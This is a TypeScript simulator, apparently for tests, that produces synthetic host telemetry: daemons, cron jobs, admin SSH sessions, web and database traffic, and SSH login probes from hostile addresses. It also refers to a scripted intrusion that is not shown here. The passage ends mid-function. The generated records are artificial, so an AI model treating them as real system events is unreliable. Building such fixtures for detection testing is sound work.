import type {
  EndpointInfo,
  FileInfo,
  FileKind,
  Inventory,
  PofrRecord,
  ProcessImage,
  WireBytes,
} from '../../src/protocol/index.js';
import { clientIp, clientIp6, hostileIp, OUTBOUND } from './address-pools.js';
import type { Random } from './random.js';

/** What one seeded host is: its role decides its daemons and what it does all day. */
export interface HostSpec {
  readonly name: string;
  readonly role: HostRole;
  /** The host's own address on the fleet's network. */
  readonly ip: string;
  readonly timezone: string;
  /** µs UTC: the record starts and ends here (a silent host ends before the others). */
  readonly from: number;
  readonly to: number;
  /** Timeline events to produce (keyframes and inventory are not counted). */
  readonly events: number;
  /** This host suffers the scripted intrusion (download, implant, C2 link, /etc/shadow). */
  readonly incident: boolean;
}

export type HostRole = 'web' | 'app' | 'db' | 'build' | 'bastion' | 'mail' | 'monitor';

/** One live process in the simulation: its identity and its current image. */
interface Proc {
  readonly pid: number;
  readonly start_ticks: number;
  image: ProcessImage;
  nextFd: number;
}

interface Pending {
  readonly t: number;
  readonly n: number;
  readonly record: PofrRecord;
}

interface Spawn {
  readonly exe: string;
  readonly argv: readonly WireBytes[];
  readonly uid?: number;
  readonly euid?: number;
  readonly cwd?: string;
  readonly observer?: boolean;
  /** Only for init, which is always pid 1. */
  readonly pid?: number;
}

const SECOND = 1_000_000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;
const KEYFRAME_EVERY = 6 * HOUR;
const TICK_US = 10_000; // USER_HZ 100

const USERS = [
  { uid: 0, gid: 0, name: 'root', home: '/root', shell: '/bin/bash' },
  { uid: 1, gid: 1, name: 'daemon', home: '/usr/sbin', shell: '/usr/sbin/nologin' },
  { uid: 33, gid: 33, name: 'www-data', home: '/var/www', shell: '/usr/sbin/nologin' },
  { uid: 105, gid: 111, name: 'postgres', home: '/var/lib/postgresql', shell: '/bin/bash' },
  { uid: 1000, gid: 1000, name: 'alice', home: '/home/alice', shell: '/bin/bash' },
  { uid: 1001, gid: 1001, name: 'bob', home: '/home/bob', shell: '/bin/bash' },
  { uid: 1002, gid: 1002, name: 'deploy', home: '/home/deploy', shell: '/bin/bash' },
  { uid: 1003, gid: 1003, name: 'ci', home: '/home/ci', shell: '/bin/sh' },
] as const;
const ADMINS = [1000, 1001] as const;

/**
 * One host's 30 days (or whatever span) as the recorder would have sent them: an inventory, a
 * keyframe of the daemons it boots with, then episodes — cron jobs, ssh sessions with their
 * commands, web requests, database backends, builds, scans, the odd recorder gap — whose records are
 * released in time order and cut into batches. Keyframes every six hours re-state what is alive,
 * taken from the simulation's own live state so they agree with every record before them.
 */
export class HostSimulation {
  private readonly heap: Pending[] = [];
  private n = 0;
  private pid = 300;
  private inode = 40_000;
  private readonly bootTime: number;
  /** What the recorder would see alive now: images by pid, kept in step as records are released. */
  private readonly live = new Map<number, ProcessImage>();
  private readonly files = new Map<number, Map<number, FileInfo>>();
  private readonly endpoints = new Map<string, EndpointInfo>();
  private readonly daemons = new Map<string, Proc>();
  private scheduled = 0;
  private emitted: PofrRecord[] = [];
  private nextKeyframe: number;
  private incidentAt: number | null;

  constructor(
    readonly spec: HostSpec,
    private readonly rng: Random,
  ) {
    this.bootTime = spec.from - rng.int(1, 20) * 86_400 * SECOND;
    this.nextKeyframe = spec.from + KEYFRAME_EVERY;
    this.incidentAt = spec.incident ? spec.from + Math.floor((spec.to - spec.from) * 0.72) : null;
  }

  /** Timeline events emitted so far. */
  events = 0;

  /**
   * The host's records cut into batches: at most `maxRecords` each, and at most `maxSpan` µs of
   * host time, as a recorder would seal them (every few seconds when busy, by size when bursting).
   */
  *batches(maxRecords: number, maxSpan: number = HOUR): Generator<PofrRecord[]> {
    this.boot();
    let t = this.spec.from + SECOND;
    let batchStart = this.spec.from;
    let episodes = 0;
    const flushIfDue = function* (this: HostSimulation, now: number) {
      while (this.emitted.length >= maxRecords) yield this.emitted.splice(0, maxRecords);
      if (this.emitted.length > 0 && now - batchStart >= maxSpan) {
        yield this.emitted.splice(0);
        batchStart = now;
      }
    }.bind(this);
    while (this.scheduled < this.spec.events && t < this.spec.to) {
      const left = this.spec.events - this.scheduled;
      // Episodes differ in size by role (an ssh session is ~50 records, a web request ~4): the
      // pace follows the average so far, so every host's record runs to its end time.
      const perEpisode = episodes === 0 ? 9 : Math.max(1, this.scheduled / episodes);
      const meanGap = (this.spec.to - t) / Math.max(1, left / perEpisode);
      episodes++;
      t += Math.max(1000, Math.round(this.rng.exp(meanGap) * this.quietFactor(t)));
      if (t >= this.spec.to) break;
      this.releaseUntil(t);
      yield* flushIfDue(t);
      if (this.incidentAt !== null && t >= this.incidentAt) {
        this.incidentAt = null;
        this.incident(t);
      } else this.episode(t);
    }
    // What would happen after the end of the record has not happened yet: those processes and
    // connections are still open when the record ends.
    this.releaseUntil(this.spec.to);
    this.heap.length = 0;
    while (this.emitted.length > 0) yield this.emitted.splice(0, maxRecords);
  }

  // ---- time and release ----------------------------------------------------------------------

  /** Nights and weekends are quieter: gaps grow there (and shrink by day, so the total holds). */
  private quietFactor(t: number): number {
    const hour = new Date(t / 1000).getUTCHours();
    const day = new Date(t / 1000).getUTCDay();
    const daytime = hour >= 7 && hour <= 19 ? 0.7 : 1.6;
    return daytime * (day === 0 || day === 6 ? 1.4 : 1);
  }

  private at(t: number, record: PofrRecord): void {
    this.heap.push({ t, n: this.n++, record });
    this.siftUp(this.heap.length - 1);
    if (record.type !== 'keyframe' && record.type !== 'inventory') this.scheduled++;
  }

  private releaseUntil(t: number): void {
    while (this.heap.length > 0 && this.heap[0].t <= t) {
      const top = this.heap[0].t;
      while (this.nextKeyframe <= top && this.nextKeyframe <= this.spec.to) {
        this.emit(this.keyframe(this.nextKeyframe));
        this.nextKeyframe += KEYFRAME_EVERY;
      }
      this.emit(this.pop().record);
    }
    while (this.nextKeyframe <= Math.min(t, this.spec.to)) {
      this.emit(this.keyframe(this.nextKeyframe));
      this.nextKeyframe += KEYFRAME_EVERY;
    }
  }

  /** Applies a released record to the live state (what keyframes list) and hands it out. */
  private emit(r: PofrRecord): void {
    switch (r.type) {
      case 'process_start':
      case 'process_exec':
        this.live.set(r.proc.pid, r.proc);
        break;
      case 'process_exit':
        this.live.delete(r.pid);
        this.files.delete(r.pid);
        break;
      case 'file_open': {
        const fds = this.files.get(r.file.pid) ?? new Map<number, FileInfo>();
        fds.set(r.file.fd, r.file);
        this.files.set(r.file.pid, fds);
        break;
      }
      case 'file_close':
        this.files.get(r.pid)?.delete(r.fd);
        break;
      case 'endpoint_open':
        this.endpoints.set(r.endpoint.key, r.endpoint);
        break;
      case 'endpoint_state': {
        const e = this.endpoints.get(r.key);
        if (e) this.endpoints.set(r.key, { ...e, state: r.state });
        break;
      }
      case 'endpoint_close':
        this.endpoints.delete(r.key);
        break;
      default:
        break;
    }
    if (r.type !== 'keyframe' && r.type !== 'inventory') this.events++;
    this.emitted.push(r);
  }

  private keyframe(t: number): PofrRecord {
    const processes = [...this.live.values()];
    const alive = new Set(processes.map((p) => p.pid));
    const files: FileInfo[] = [];
    for (const [pid, fds] of this.files) if (alive.has(pid)) files.push(...fds.values());
    const endpoints = [...this.endpoints.values()].filter((e) => e.pid === null || alive.has(e.pid));
    return { type: 'keyframe', t, processes, files, endpoints };
  }

  // ---- the primitives every episode is made of -------------------------------------------------

  private spawn(t: number, parent: Proc | null, s: Spawn): Proc {
    if (s.pid === undefined) {
      this.pid += this.rng.int(1, 7);
      if (this.pid > 4_000_000) this.pid = 300;
    }
    const pid = s.pid ?? this.pid;
    const uid = s.uid ?? parent?.image.ruid ?? 0;
    const image = this.image(pid, t, parent, s, uid);
    const p: Proc = { pid, start_ticks: image.start_ticks, image, nextFd: 3 };
    this.at(t, { type: 'process_start', t, proc: image });
    return p;
  }

  private image(pid: number, start: number, parent: Proc | null, s: Spawn, uid: number): ProcessImage {
    const gid = USERS.find((u) => u.uid === uid)?.gid ?? uid;
    return {
      pid,
      start_ticks: Math.floor((start - this.bootTime) / TICK_US),
      start,
      ppid: parent?.pid ?? (pid === 1 ? 0 : 1),
      parent_start_ticks: parent?.start_ticks ?? null,
      exe: s.exe,
      comm: comm(s.exe),
      argv: [...s.argv],
      cwd: s.cwd ?? '/',
      ruid: uid,
      euid: s.euid ?? uid,
      rgid: gid,
      egid: gid,
      source: 'sample',
      observer: s.observer ?? false,
    };
  }

  /** The same pid becomes another program (sshd → bash → cat): a new image, same identity. */
  private exec(t: number, p: Proc, s: Spawn): void {
    const uid = s.uid ?? p.image.ruid;
    const gid = USERS.find((u) => u.uid === uid)?.gid ?? uid;
    p.image = {
      ...p.image,
      exe: s.exe,
      comm: comm(s.exe),
      argv: [...s.argv],
      cwd: s.cwd ?? p.image.cwd,
      ruid: uid,
      euid: s.euid ?? uid,
      rgid: gid,
      egid: gid,
    };
    this.at(t, { type: 'process_exec', t, proc: p.image });
  }

  private exit(t: number, p: Proc): void {
    this.at(t, { type: 'process_exit', t, pid: p.pid, start_ticks: p.start_ticks });
  }

  /** Opens and (after `hold` µs) closes one file. */
  private touch(t: number, p: Proc, path: WireBytes, hold: number, kind: FileKind = 'file'): void {
    const fd = p.nextFd++;
    this.at(t, { type: 'file_open', t, file: { pid: p.pid, start_ticks: p.start_ticks, fd, path, kind } });
    this.at(t + hold, { type: 'file_close', t: t + hold, pid: p.pid, start_ticks: p.start_ticks, fd });
  }

  private hold(t: number, p: Proc, path: WireBytes, kind: FileKind = 'file'): void {
    const fd = p.nextFd++;
    this.at(t, { type: 'file_open', t, file: { pid: p.pid, start_ticks: p.start_ticks, fd, path, kind } });
  }

  /** A TCP connection through its states, closed after `life` µs. */
  private connect(
    t: number,
    p: Proc | null,
    local: [string, number],
    remote: [string, number],
    life: number,
    states: readonly string[] = ['ESTABLISHED'],
    proto: 'tcp' | 'udp' = 'tcp',
  ): string {
    const inode = this.inode++;
    const family = remote[0].includes(':') ? 6 : 4;
    const key = `${proto}${family}:${inode}`;
    const localIp = family === 6 && !local[0].includes(':') ? '2a01:4f8:c0c:1::2' : local[0];
    this.at(t, {
      type: 'endpoint_open',
      t,
      endpoint: {
        key,
        pid: p?.pid ?? null,
        start_ticks: p?.start_ticks ?? null,
        proto,
        family,
        local_ip: localIp,
        local_port: local[1],
        remote_ip: remote[0],
        remote_port: remote[1],
        state: states[0],
        inode,
        netns: 4026531840,
      },
    });
    const step = Math.max(1, Math.floor(life / (states.length + 1)));
    for (let i = 1; i < states.length; i++) {
      this.at(t + step * i, { type: 'endpoint_state', t: t + step * i, key, state: states[i] });
    }
    this.at(t + life, { type: 'endpoint_close', t: t + life, key });
    return key;
  }

  private listen(t: number, p: Proc, ip: string, port: number, proto: 'tcp' | 'udp' = 'tcp'): void {
    const inode = this.inode++;
    const family = ip.includes(':') ? 6 : 4;
    const endpoint: EndpointInfo = {
      key: `${proto}${family}:${inode}`,
      pid: p.pid,
      start_ticks: p.start_ticks,
      proto,
      family,
      local_ip: ip,
      local_port: port,
      remote_ip: family === 6 ? '::' : '0.0.0.0',
      remote_port: 0,
      state: proto === 'tcp' ? 'LISTEN' : 'UNCONN',
      inode,
      netns: 4026531840,
    };
    this.at(t, { type: 'endpoint_open', t, endpoint });
  }

  private ephemeral(): number {
    return this.rng.int(32768, 60999);
  }

  /** A DNS lookup through the local resolver, as glibc does it before a connect. */
  private resolve(t: number, p: Proc): void {
    this.connect(t, p, [this.spec.ip, this.ephemeral()], ['127.0.0.53', 53], 3000, ['ESTABLISHED'], 'udp');
  }

  // ---- the host's life ------------------------------------------------------------------------

  private boot(): void {
    const t0 = this.spec.from;
    this.at(t0, { type: 'inventory', t: t0, inventory: this.inventory() });
    const b = this.bootTime + 2 * SECOND;
    const systemd = this.daemon('systemd', b, null, {
      exe: '/usr/lib/systemd/systemd',
      argv: ['/sbin/init'],
      pid: 1,
    });
    const d = (name: string, s: Spawn, at = b + this.rng.int(1, 30) * SECOND) =>
      this.daemon(name, at, systemd, s);
    const journald = d('journald', {
      exe: '/usr/lib/systemd/systemd-journald',
      argv: ['/usr/lib/systemd/systemd-journald'],
    });
    this.hold(t0, journald, '/var/log/journal/3f2a9c/system.journal');
    const rsyslog = d('rsyslogd', {
      exe: '/usr/sbin/rsyslogd',
      argv: ['/usr/sbin/rsyslogd', '-n', '-iNONE'],
    });
    for (const log of ['/var/log/syslog', '/var/log/auth.log', '/var/log/kern.log'])
      this.hold(t0, rsyslog, log);
    d('resolved', { exe: '/usr/lib/systemd/systemd-resolved', argv: ['/usr/lib/systemd/systemd-resolved'] });
    const chrony = d('chronyd', { exe: '/usr/sbin/chronyd', argv: ['/usr/sbin/chronyd', '-F', '1'] });
    this.listen(t0, chrony, '127.0.0.1', 323, 'udp');
    d('cron', { exe: '/usr/sbin/cron', argv: ['/usr/sbin/cron', '-f'] });
    const sshd = d('sshd', {
      exe: '/usr/sbin/sshd',
      argv: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'],
    });
    this.listen(t0, sshd, '0.0.0.0', 22);
    this.listen(t0, sshd, '::', 22);
    const exporter = d('node_exporter', {
      exe: '/usr/bin/prometheus-node-exporter',
      argv: ['/usr/bin/prometheus-node-exporter', '--collector.systemd'],
      uid: 1,
    });
    this.listen(t0, exporter, '0.0.0.0', 9100);
    const pofr = d('pofr', {
      exe: '/usr/bin/node',
      argv: ['node', '/usr/lib/pofr/bin/pofr', 'client', 'run', '--state', '/var/lib/pofr'],
      observer: true,
    });
    this.hold(t0, pofr, '/var/lib/pofr/spool/journal');
    this.connect(t0, pofr, [this.spec.ip, this.ephemeral()], ['10.0.0.2', 2222], this.spec.to - t0 - SECOND);
    switch (this.spec.role) {
      case 'web': {
        const nginx = d('nginx', {
          exe: '/usr/sbin/nginx',
          argv: ['nginx: master process /usr/sbin/nginx -g daemon on; master_process on;'],
        });
        this.listen(t0, nginx, '0.0.0.0', 80);
        this.listen(t0, nginx, '0.0.0.0', 443);
        this.hold(t0, nginx, '/var/log/nginx/access.log');
        this.hold(t0, nginx, '/var/log/nginx/error.log');
        for (let i = 0; i < 2; i++) {
          const w = this.daemon(`nginx-worker-${i}`, b + 20 * SECOND, nginx, {
            exe: '/usr/sbin/nginx',
            argv: ['nginx: worker process'],
            uid: 33,
          });
          this.hold(t0, w, '/var/log/nginx/access.log');
        }
        d('php-fpm', {
          exe: '/usr/sbin/php-fpm8.2',
          argv: ['php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)'],
        });
        break;
      }
      case 'app': {
        const app = d('app', {
          exe: '/usr/bin/node',
          argv: ['node', '/srv/shop/server.js', '--port', '3000'],
          uid: 1002,
          cwd: '/srv/shop',
        });
        this.listen(t0, app, '0.0.0.0', 3000);
        this.hold(t0, app, '/srv/shop/logs/app.log');
        break;
      }
      case 'db': {
        const pg = d('postgres', {
          exe: '/usr/lib/postgresql/15/bin/postgres',
          argv: [
            '/usr/lib/postgresql/15/bin/postgres',
            '-D',
            '/var/lib/postgresql/15/main',
            '-c',
            'config_file=/etc/postgresql/15/main/postgresql.conf',
          ],
          uid: 105,
          cwd: '/var/lib/postgresql/15/main',
        });
        this.listen(t0, pg, '0.0.0.0', 5432);
        this.hold(t0, pg, '/var/log/postgresql/postgresql-15-main.log');
        for (const role of ['checkpointer', 'background writer', 'walwriter', 'autovacuum launcher']) {
          const w = this.daemon(`pg-${role}`, b + 30 * SECOND, pg, {
            exe: '/usr/lib/postgresql/15/bin/postgres',
            argv: [`postgres: 15/main: ${role} `],
            uid: 105,
          });
          if (role === 'walwriter')
            this.hold(t0, w, '/var/lib/postgresql/15/main/pg_wal/000000010000002A00000091');
        }
        break;
      }
      case 'build': {
        const runner = d('runner', {
          exe: '/usr/bin/gitlab-runner',
          argv: ['/usr/bin/gitlab-runner', 'run', '--working-directory', '/home/ci', '--user', 'ci'],
        });
        this.hold(t0, runner, '/etc/gitlab-runner/config.toml');
        break;
      }
      case 'mail': {
        const master = d('postfix', {
          exe: '/usr/lib/postfix/sbin/master',
          argv: ['/usr/lib/postfix/sbin/master', '-w'],
        });
        this.listen(t0, master, '0.0.0.0', 25);
        break;
      }
      case 'monitor': {
        const prom = d('prometheus', {
          exe: '/usr/bin/prometheus',
          argv: [
            '/usr/bin/prometheus',
            '--config.file=/etc/prometheus/prometheus.yml',
            '--storage.tsdb.path=/var/lib/prometheus/metrics2/',
          ],
          uid: 1,
        });
        this.listen(t0, prom, '0.0.0.0', 9090);
        break;
      }
      case 'bastion':
        break;
    }
    // The recorder starts on a running host: it sends its inventory and one keyframe of every
    // daemon, file and socket already there, not the events that made them.
    this.releaseUntil(t0);
    const inventory = this.emitted.find((r) => r.type === 'inventory')!;
    this.emitted = [inventory, this.keyframe(t0)];
    this.events = 0;
    this.scheduled = 0;
  }

  private daemon(name: string, start: number, parent: Proc | null, s: Spawn): Proc {
    const p = this.spawn(start, parent, s);
    this.daemons.set(name, p);
    return p;
  }

  private inventory(): Inventory {
    return {
      hostname: this.spec.name,
      os: 'Debian GNU/Linux 12 (bookworm)',
      kernel: '6.1.0-28-amd64',
      arch: 'x86_64',
      boot_time: this.bootTime,
      timezone: this.spec.timezone,
      machine_id: Array.from({ length: 32 }, () => this.rng.int(0, 15).toString(16)).join(''),
      users: USERS.map((u) => ({ ...u })),
      groups: [
        { gid: 0, name: 'root', members: [] },
        { gid: 27, name: 'sudo', members: ['alice', 'bob'] },
        { gid: 33, name: 'www-data', members: [] },
      ],
      interfaces: [
        { name: 'lo', mac: null, addresses: ['127.0.0.1/8', '::1/128'] },
        { name: 'eth0', mac: '52:54:00:12:34:56', addresses: [`${this.spec.ip}/16`] },
      ],
      routes: [{ family: 4, destination: '0.0.0.0/0', gateway: '10.0.0.1', dev: 'eth0', metric: 100 }],
      devices: [],
    };
  }

  private episode(t: number): void {
    const role = this.spec.role;
    const kind = this.rng.weighted<string>([
      ['cron', 3],
      ['ssh', role === 'bastion' ? 6 : 1.2],
      ['scan', 1.5],
      ['web', role === 'web' ? 14 : 0],
      ['db', role === 'db' ? 12 : 0],
      ['app', role === 'app' ? 12 : 0],
      ['build', role === 'build' ? 4 : 0],
      ['mail', role === 'mail' ? 8 : 0],
      ['scrape', role === 'monitor' ? 10 : 1],
      ['apt', 0.15],
      ['gap', 0.01],
    ]);
    switch (kind) {
      case 'cron':
        this.cronJob(t);
        return;
      case 'ssh':
        this.sshSession(t);
        return;
      case 'scan':
        this.sshScan(t);
        return;
      case 'web':
        this.webRequests(t);
        return;
      case 'db':
        this.dbBackend(t);
        return;
      case 'app':
        this.appRequests(t);
        return;
      case 'build':
        this.build(t);
        return;
      case 'mail':
        this.mail(t);
        return;
      case 'scrape':
        this.scrape(t);
        return;
      case 'apt':
        this.aptUpdate(t);
        return;
      default:
        this.recorderGap(t);
        return;
    }
  }

  private cronJob(t: number): void {
    const cron = this.daemons.get('cron')!;
    const job = this.rng.pick([
      ['/usr/bin/php8.2', '/usr/lib/php/sessionclean'],
      ['/usr/sbin/logrotate', '/etc/logrotate.conf'],
      ['/usr/bin/find', '/tmp', '-type', 'f', '-mtime', '+7', '-delete'],
      ['/usr/local/bin/backup.sh', '--incremental'],
    ]);
    const sh = this.spawn(t, cron, { exe: '/usr/bin/dash', argv: ['/bin/sh', '-c', job.join(' ')] });
    const cmd = this.spawn(t + 2000, sh, { exe: job[0], argv: job });
    this.touch(t + 3000, cmd, job[1].startsWith('/') ? job[1] : '/etc/crontab', 2000);
    if (job[0].endsWith('logrotate')) this.touch(t + 6000, cmd, '/var/log/nginx/access.log.1', 40_000);
    const end = t + this.rng.int(50, 900) * 1000;
    this.exit(end, cmd);
    this.exit(end + 1000, sh);
  }

  private sshSession(t: number): void {
    const sshd = this.daemons.get('sshd')!;
    const uid = this.rng.pick(ADMINS);
    const user = USERS.find((u) => u.uid === uid)!;
    const from = this.rng.chance(0.1) ? clientIp6(this.rng) : clientIp(this.rng);
    const length = this.rng.int(2, 40) * MINUTE;
    this.connect(t, sshd, [this.spec.ip, 22], [from, this.ephemeral()], length, [
      'ESTABLISHED',
      'CLOSE_WAIT',
      'LAST_ACK',
    ]);
    const priv = this.spawn(t + 1000, sshd, { exe: '/usr/sbin/sshd', argv: [`sshd: ${user.name} [priv]`] });
    this.touch(t + 2000, priv, '/etc/shadow', 1500);
    const sess = this.spawn(t + 90_000, priv, {
      exe: '/usr/sbin/sshd',
      argv: [`sshd: ${user.name}@pts/0`],
      uid,
    });
    const shell = this.spawn(t + 95_000, sess, {
      exe: '/usr/sbin/sshd',
      argv: [`sshd: ${user.name}@pts/0`],
      uid,
    });
    this.exec(t + 96_000, shell, { exe: '/usr/bin/bash', argv: ['-bash'], cwd: user.home });
    this.touch(t + 97_000, shell, `${user.home}/.bashrc`, 800);
    this.hold(t + 97_500, shell, '/dev/pts/0', 'dev');
    let c = t + 100_000 + this.rng.int(1, 20) * SECOND;
    const commands = this.rng.int(3, 12);
    for (let i = 0; i < commands && c < t + length - 10 * SECOND; i++) {
      c = this.command(c, shell, user.home) + this.rng.int(2, 90) * SECOND;
    }
    const end = t + length - 2 * SECOND;
    // Some sessions leave through `exec`, so one pid shows sshd → bash → less in sequence.
    if (this.rng.chance(0.25) && c < end - 5 * SECOND) {
      this.exec(c, shell, { exe: '/usr/bin/less', argv: ['less', '/var/log/syslog'], cwd: user.home });
      this.touch(c + 1000, shell, '/var/log/syslog', end - c - 2000);
    }
    this.exit(end, shell);
    this.exit(end + 1000, sess);
    this.exit(end + 2000, priv);
  }

  /** One interactive command of an admin's shell; returns when it ended. */
  private command(t: number, shell: Proc, home: string): number {
    const pick = this.rng.weighted<string>([
      ['ls', 5],
      ['cat', 4],
      ['grep', 3],
      ['sudo', 2],
      ['vim', 1.5],
      ['git', 1],
      ['curl', 1],
      ['ps', 1.5],
      ['journalctl', 1],
      ['tar', 0.3],
      ['odd', 0.2],
    ]);
    const run = (exe: string, argv: WireBytes[], files: WireBytes[], dur: number, extra?: Partial<Spawn>) => {
      const p = this.spawn(t, shell, { exe, argv, cwd: home, ...extra });
      for (let i = 0; i < files.length; i++) {
        this.touch(t + 500 + i * 300, p, files[i], Math.max(200, dur - 1000 - i * 300));
      }
      this.exit(t + dur, p);
      return p;
    };
    switch (pick) {
      case 'ls':
        run(
          '/usr/bin/ls',
          ['ls', '-la', '/var/www/html'],
          [{ b64: Buffer.from('/var/www/html').toString('base64') }],
          4000,
          {},
        );
        return t + 4000;
      case 'cat': {
        const f = this.rng.pick([
          '/etc/hosts',
          '/etc/nginx/sites-enabled/default',
          '/etc/passwd',
          '/var/log/auth.log',
        ]);
        run('/usr/bin/cat', ['cat', f], [f], 3000);
        return t + 3000;
      }
      case 'grep':
        run(
          '/usr/bin/grep',
          ['grep', '-r', 'timeout', '/etc/nginx/'],
          ['/etc/nginx/nginx.conf', '/etc/nginx/sites-enabled/default'],
          9000,
        );
        return t + 9000;
      case 'sudo': {
        const sudo = this.spawn(t, shell, {
          exe: '/usr/bin/sudo',
          argv: ['sudo', 'systemctl', 'restart', 'nginx'],
          euid: 0,
          cwd: home,
        });
        this.touch(t + 400, sudo, '/etc/sudoers', 600);
        const chk = this.spawn(t + 1000, sudo, {
          exe: '/usr/sbin/unix_chkpwd',
          argv: ['/sbin/unix_chkpwd', 'alice', 'nullok'],
          euid: 0,
        });
        this.touch(t + 1200, chk, '/etc/shadow', 500);
        this.exit(t + 1900, chk);
        const ctl = this.spawn(t + 3 * SECOND, sudo, {
          exe: '/usr/bin/systemctl',
          argv: ['systemctl', 'restart', 'nginx'],
          uid: 0,
        });
        this.exit(t + 5 * SECOND, ctl);
        this.exit(t + 5 * SECOND + 500, sudo);
        return t + 6 * SECOND;
      }
      case 'vim': {
        const dur = this.rng.int(20, 300) * SECOND;
        run(
          '/usr/bin/vim.basic',
          ['vim', '/etc/nginx/nginx.conf'],
          ['/etc/nginx/nginx.conf', `${home}/.viminfo`],
          dur,
        );
        return t + dur;
      }
      case 'git': {
        const git = run(
          '/usr/bin/git',
          ['git', 'pull', '--ff-only'],
          ['/srv/shop/.git/HEAD', '/srv/shop/.git/config'],
          8 * SECOND,
        );
        this.resolve(t + 300, git);
        this.connect(
          t + 600,
          git,
          [this.spec.ip, this.ephemeral()],
          [this.rng.pick(OUTBOUND.github), 22],
          6 * SECOND,
          ['SYN_SENT', 'ESTABLISHED', 'FIN_WAIT1'],
        );
        return t + 8 * SECOND;
      }
      case 'curl': {
        const curl = run(
          '/usr/bin/curl',
          ['curl', '-fsS', 'https://registry.npmjs.org/-/ping'],
          [],
          2 * SECOND,
        );
        this.resolve(t + 200, curl);
        this.connect(
          t + 400,
          curl,
          [this.spec.ip, this.ephemeral()],
          [this.rng.pick(OUTBOUND.npmRegistry), 443],
          SECOND,
          ['SYN_SENT', 'ESTABLISHED', 'FIN_WAIT1'],
        );
        return t + 2 * SECOND;
      }
      case 'ps':
        run('/usr/bin/ps', ['ps', 'auxf'], ['/proc/1/stat', '/proc/loadavg'], 1500);
        return t + 1500;
      case 'journalctl':
        run(
          '/usr/bin/journalctl',
          ['journalctl', '-u', 'nginx', '--since', 'today'],
          ['/var/log/journal/3f2a9c/system.journal'],
          12 * SECOND,
        );
        return t + 12 * SECOND;
      case 'tar':
        run(
          '/usr/bin/tar',
          ['tar', 'czf', '/tmp/etc-backup.tgz', '/etc'],
          ['/tmp/etc-backup.tgz', '/etc/ssh/sshd_config', '/etc/shadow'],
          20 * SECOND,
          { euid: 0, uid: 0 },
        );
        return t + 20 * SECOND;
      default:
        // What a careless (or hostile) user leaves behind: quotes, newlines, bytes that are not UTF-8.
        run(
          '/usr/bin/touch',
          [
            'touch',
            'it\'s a "test"\nfile',
            { b64: Buffer.from([0x2f, 0x74, 0x6d, 0x70, 0x2f, 0xff, 0xfe, 0x78]).toString('base64') },
          ],
          [{ b64: Buffer.from([0x2f, 0x74, 0x6d, 0x70, 0x2f, 0xff, 0xfe, 0x78]).toString('base64') }],
          1000,
        );
        return t + 1000;
    }
  }

  private sshScan(t: number): void {
    const sshd = this.daemons.get('sshd')!;
    const attempts = this.rng.int(1, 4);
    const ip = hostileIp(this.rng);
    for (let i = 0; i < attempts; i++) {
      const at = t + i * 4 * SECOND;
      this.connect(at, sshd, [this.spec.ip, 22], [ip, this.ephemeral()], 3 * SECOND, [
        'SYN_RECV',
        'ESTABLISHED',
        'CLOSE_WAIT',
      ]);
      const child = this.spawn(at + 50_000, sshd, {
        exe: '/usr/sbin/sshd',
        argv: [`sshd: ${this.rng.pick(['root', 'admin', 'ubuntu', 'test', 'oracle'])} [priv]`],
      });
      this.exit(at + 2 * SECOND, child);
    }
  }

  private webRequests(t: number): void {
    const workers = [this.daemons.get('nginx-worker-0')!, this.daemons.get('nginx-worker-1')!];
    const n = this.rng.int(1, 3);
    for (let i = 0; i < n; i++) {
      const at = t + i * this.rng.int(10, 900) * 1000;
      const w = this.rng.pick(workers);
      const remote = this.rng.chance(0.08) ? clientIp6(this.rng) : clientIp(this.rng);
      this.connect(at, w, [this.spec.ip, 443], [remote, this.ephemeral()], this.rng.int(50, 4000) * 1000, [
        'ESTABLISHED',
        'CLOSE_WAIT',
      ]);
      if (this.rng.chance(0.3)) {
        const page = this.rng.pick([
          '/var/www/html/index.html',
          '/var/www/html/assets/app.js',
          '/var/www/html/favicon.ico',
        ]);
        this.touch(at + 200, w, page, 300);
      }
    }
  }

  private dbBackend(t: number): void {
    const pg = this.daemons.get('postgres')!;
    const client = `10.0.2.${this.rng.int(10, 30)}`;
    const port = this.ephemeral();
    const life = this.rng.int(1, 120) * SECOND;
    this.connect(t, pg, [this.spec.ip, 5432], [client, port], life);
    const backend = this.spawn(t + 800, pg, {
      exe: '/usr/lib/postgresql/15/bin/postgres',
      argv: [`postgres: 15/main: app shop ${client}(${port}) idle`],
      uid: 105,
      cwd: '/var/lib/postgresql/15/main',
    });
    const rel = this.rng.int(1, 3);
    for (let i = 0; i < rel; i++) {
      this.touch(
        t + 2000 + i * 100,
        backend,
        `/var/lib/postgresql/15/main/base/16384/${this.rng.int(2600, 2700)}`,
        life - 3000,
      );
    }
    this.exit(t + life - 500, backend);
  }

  private appRequests(t: number): void {
    const app = this.daemons.get('app')!;
    const lb = `10.0.1.${this.rng.int(10, 20)}`;
    this.connect(t, app, [this.spec.ip, 3000], [lb, this.ephemeral()], this.rng.int(20, 2000) * 1000);
    if (this.rng.chance(0.5)) {
      this.connect(
        t + 3000,
        app,
        [this.spec.ip, this.ephemeral()],
        [`10.0.3.${this.rng.int(20, 22)}`, 5432],
        this.rng.int(1, 60) * SECOND,
      );
    }
    if (this.rng.chance(0.15)) {
      this.connect(
        t + 5000,
        app,
        [this.spec.ip, this.ephemeral()],
        [this.rng.pick(OUTBOUND.paymentApi), 443],
        900_000,
        ['SYN_SENT', 'ESTABLISHED', 'FIN_WAIT1', 'TIME_WAIT'],
      );
    }
  }

  private build(t: number): void {
    const runner = this.daemons.get('runner')!;
    const job = this.spawn(t, runner, {
      exe: '/usr/bin/bash',
      argv: ['bash', '-c', 'make -j2 all'],
      uid: 1003,
      cwd: '/home/ci/builds/shop',
    });
    const make = this.spawn(t + 5000, job, {
      exe: '/usr/bin/make',
      argv: ['make', '-j2', 'all'],
      cwd: '/home/ci/builds/shop',
    });
    this.touch(t + 6000, make, '/home/ci/builds/shop/Makefile', 10_000);
    let c = t + 20_000;
    const units = this.rng.int(2, 6);
    for (let i = 0; i < units; i++) {
      const src = `src/${this.rng.pick(['cart', 'order', 'user', 'payment', 'search'])}_${i}.c`;
      const gcc = this.spawn(c, make, {
        exe: '/usr/bin/x86_64-linux-gnu-gcc-12',
        argv: ['gcc', '-O2', '-c', src, '-o', src.replace('.c', '.o')],
        cwd: '/home/ci/builds/shop',
      });
      const cc1 = this.spawn(c + 2000, gcc, {
        exe: '/usr/libexec/gcc/x86_64-linux-gnu/12/cc1',
